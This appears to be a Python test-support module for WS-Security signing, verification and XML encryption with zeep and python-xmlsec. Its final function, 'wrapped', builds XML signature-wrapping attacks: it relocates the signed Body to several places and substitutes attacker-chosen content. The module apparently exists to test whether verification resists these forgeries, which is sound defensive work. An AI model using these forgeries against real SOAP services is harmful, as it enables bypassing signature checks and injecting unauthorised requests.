"""WS-Security by zeep and python-xmlsec, and what attackers do to it."""
import base64
import copy
import datetime

import xmlsec
import zeep.wsse.signature
import zeep.wsse.utils
from lxml import etree

from support.program import must, run

WSSE = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd"
WSU = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd"
XENC = "http://www.w3.org/2001/04/xmlenc#"
DS = "http://www.w3.org/2000/09/xmldsig#"


def now(shift=0):
    moment = datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(seconds=shift)
    return moment.strftime("%Y-%m-%dT%H:%M:%SZ")


def timestamp(shift=0, life=300):
    node = etree.Element(f"{{{WSU}}}Timestamp")
    etree.SubElement(node, f"{{{WSU}}}Created").text = now(shift)
    etree.SubElement(node, f"{{{WSU}}}Expires").text = now(shift + life)
    return node


class Signer:
    """A zeep plugin: Timestamp and signature; `kind` is zeep's BinarySignature or Signature."""

    def __init__(self, identity, kind=zeep.wsse.signature.BinarySignature, shift=0, seal=lambda envelope: None, verify_with=None):
        self.shift, self.seal, self.verify_with = shift, seal, verify_with
        self.signature = kind(str(identity.key), str(identity.certificate), signature_method=xmlsec.Transform.RSA_SHA256,
                              digest_method=xmlsec.Transform.SHA256)

    def apply(self, envelope, headers):
        zeep.wsse.utils.get_security_header(envelope).append(timestamp(self.shift))
        envelope, headers = self.signature.apply(envelope, headers)
        self.seal(envelope)
        return envelope, headers

    def verify(self, envelope):
        if self.verify_with is not None:
            verify(envelope, self.verify_with)
        return envelope


def verify(envelope, certificate):
    """By python-xmlsec, over what zeep finds the references to mean."""
    key = xmlsec.Key.from_file(str(certificate), xmlsec.KeyFormat.CERT_PEM)
    zeep.wsse.signature._verify_envelope_with_key(envelope, key)


def signed(identity, text, **words):
    """An envelope's text, signed."""
    envelope = etree.fromstring(text)
    Signer(identity, **words).apply(envelope, {})
    return envelope


def encrypt(envelope, certificate, cipher=xmlsec.Transform.AES256):
    """The content of the Body, to this certificate, as XML Encryption says; the key goes into the Security header."""
    body = [child for child in envelope if etree.QName(child).localname == "Body"][0]
    manager = xmlsec.KeysManager()
    manager.add_key(xmlsec.Key.from_file(str(certificate), xmlsec.KeyFormat.CERT_PEM))
    data = xmlsec.template.encrypted_data_create(envelope, cipher, type=xmlsec.EncryptionType.CONTENT, ns="xenc")
    data.set("Id", "encrypted-1")
    xmlsec.template.encrypted_data_ensure_cipher_value(data)
    info = xmlsec.template.encrypted_data_ensure_key_info(data, ns="ds")
    key = xmlsec.template.add_encrypted_key(info, xmlsec.Transform.RSA_OAEP)
    xmlsec.template.encrypted_data_ensure_cipher_value(key)
    context = xmlsec.EncryptionContext(manager)
    context.key = xmlsec.Key.generate(xmlsec.KeyData.AES, 256, xmlsec.KeyDataType.SESSION)
    data = context.encrypt_xml(data, body)
    key = part(envelope, "EncryptedKey")
    data, info = part(envelope, "EncryptedData"), key.getparent()
    info.remove(key)
    data.remove(info)
    references = etree.SubElement(key, f"{{{XENC}}}ReferenceList")
    etree.SubElement(references, f"{{{XENC}}}DataReference", URI="#encrypted-1")
    zeep.wsse.utils.get_security_header(envelope).insert(0, key)
    return envelope


def decrypt(envelope, identity, folder):
    """What we encrypted: the key by openssl, the content by python-xmlsec."""
    key = envelope.find(f".//{{{XENC}}}EncryptedKey")
    wrapped = folder / "wrapped"
    wrapped.write_bytes(base64.b64decode(key.findtext(f"{{{XENC}}}CipherData/{{{XENC}}}CipherValue")))
    content_key = must(run(["openssl", "pkeyutl", "-decrypt", "-inkey", identity.key, "-in", wrapped, "-pkeyopt",
                            "rsa_padding_mode:oaep", "-pkeyopt", "rsa_oaep_md:sha256", "-pkeyopt", "rsa_mgf1_md:sha1"])).stdout
    context = xmlsec.EncryptionContext()
    context.key = xmlsec.Key.from_binary_data(xmlsec.KeyData.AES, content_key)
    context.decrypt(envelope.find(f".//{{{XENC}}}EncryptedData"))
    return envelope


def part(envelope, name):
    return [one for one in envelope.iter() if isinstance(one.tag, str) and etree.QName(one).localname == name][0]


def wrapped(envelope, evil, place):
    """The signed Body somewhere else, and another one where it stood."""
    envelope = copy.deepcopy(envelope)
    body = part(envelope, "Body")
    forged = etree.Element(body.tag)
    forged.append(etree.fromstring(evil))
    envelope.replace(body, forged)
    if place == "header":
        part(envelope, "Header").append(holder := etree.Element("{urn:w}Wrapper"))
        holder.append(body)
    elif place == "security":
        part(envelope, "Security").append(body)
    elif place == "object":
        part(envelope, "Signature").append(holder := etree.Element(f"{{{DS}}}Object"))
        holder.append(body)
    elif place == "same id":
        forged.set(f"{{{WSU}}}Id", body.get(f"{{{WSU}}}Id"))
        part(envelope, "Header").append(holder := etree.Element("{urn:w}Wrapper"))
        holder.append(body)
    elif place == "below":
        forged.append(body)
    return etree.tostring(envelope)
